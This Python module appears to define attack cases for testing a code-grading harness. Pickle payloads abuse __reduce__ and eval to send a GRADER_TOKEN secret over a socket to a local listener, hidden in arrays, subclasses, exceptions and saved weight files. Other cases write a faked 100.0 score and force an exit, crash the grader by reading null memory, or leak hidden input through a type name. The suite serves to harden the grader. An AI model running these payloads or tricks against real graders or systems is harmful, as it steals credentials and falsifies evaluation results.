"""Deserialisation: what comes back is read by somebody, and reading may be running."""

from ..attack import Attack, attack

RUNS = """
class Payload:
    "Whoever unpickles it sends its own environment to a listener."
    def __reduce__(self):
        program = (
            "__import__('socket').create_connection(('127.0.0.1', @TCP@), 1)"
            ".sendall(__import__('os').environ.get('GRADER_TOKEN', 'none').encode())"
        )
        return eval, (program,)
"""
REFUSED = "returned an object of (type|another type)"


def loaded(name: str, *cells: str, **facts: object) -> Attack:
    """Return an attack on whoever loads its result; `result` is what is pickled elsewhere."""
    facts = {"route": "pickle", "told": REFUSED, **facts}
    return attack(name, "secret", RUNS, *cells, **facts)


ATTACKS = [
    loaded(
        "the result runs code when it is unpickled",
        "def relu(x):\n    return Payload()\nresult = Payload()",
    ),
    loaded(
        "an array of objects carries one that runs code",
        "def relu(x):\n    return np.array([Payload()], dtype=object)\nresult = relu(0)",
    ),
    loaded(
        "a structured array carries one that runs code",
        """
        def relu(x):
            return np.array([(1.0, Payload())], dtype=[("value", float), ("more", object)])
        result = relu(0)
        """,
    ),
    loaded(
        "a dict of a subclass runs code when it is copied",
        """
        class Table(dict):
            __reduce__ = Payload.__reduce__
        def relu(x):
            return Table(value=1)
        result = relu(0)
        """,
    ),
    loaded(
        "a float of a subclass runs code when it is sent on",
        """
        class Number(float):
            __reduce__ = Payload.__reduce__
        def relu(x):
            return Number(1)
        result = relu(0)
        """,
    ),
    loaded(
        "an array of a subclass runs code when it is sent on",
        """
        class Array(np.ndarray):
            __reduce__ = Payload.__reduce__
        def relu(x):
            return x.view(Array)
        result = relu(np.ones(2))
        """,
    ),
    loaded(
        "the exception runs code when it is told of",
        """
        class Failed(Exception):
            __reduce__ = Payload.__reduce__
        def relu(x):
            raise Failed("this")
        result = Failed("this")
        """,
        told="Failed|Exception",
    ),
    loaded(
        "weights are saved as a pickle that runs code",
        """
        import pickle
        np.save("weights.npy", np.array([Payload()], dtype=object), allow_pickle=True)
        open("weights.pkl", "wb").write(pickle.dumps(Payload()))
        """,
        told="",
        route="arrays",
        earns=2.0,
        honest=("relu",),
    ),
    loaded(
        "the file of results is a pickle that runs code, and the process ends",
        """
        import os, pickle
        with open("results.pkl", "wb") as file:
            file.write(pickle.dumps({"score": 100.0, "more": Payload()}))
        os._exit(0)
        """,
        told="",
        earns=2.0,
        honest=("relu",),
    ),
    loaded(
        "a result deep in lists and tuples runs code",
        "def relu(x):\n    return {'a': [(1, {'b': Payload()})]}\nresult = relu(0)",
    ),
    loaded(
        "a function is returned where a value is asked for",
        "def relu(x):\n    return Payload\nresult = Payload()",
    ),
    loaded(
        "an answer is an object that runs code",
        "parameters = result = Payload()",
        about="parameters",
    ),
    attack(
        "the result is a list that holds itself",
        "crash",
        "endless = []\nendless.append(endless)\ndef layer(W, x, b):\n    return endless\n"
        "np.array(endless[0][0], dtype=object) if False else None",
        "import json\njson.dumps(endless) if False else None",
        "import os\nos.write(1, b'') or __import__('ctypes').string_at(0)",
        earns=2.0,
        honest=("relu",),
        about="layer",
        told="too large, or nested too deeply",
    ),
    attack(
        "the name of the result's type is a page of hidden input",
        "secret",
        """
        def relu(x):
            print("LOOT", x.tolist())
            return type(str(x.tolist()), (), {})()
        """,
        told=REFUSED,
    ),
]
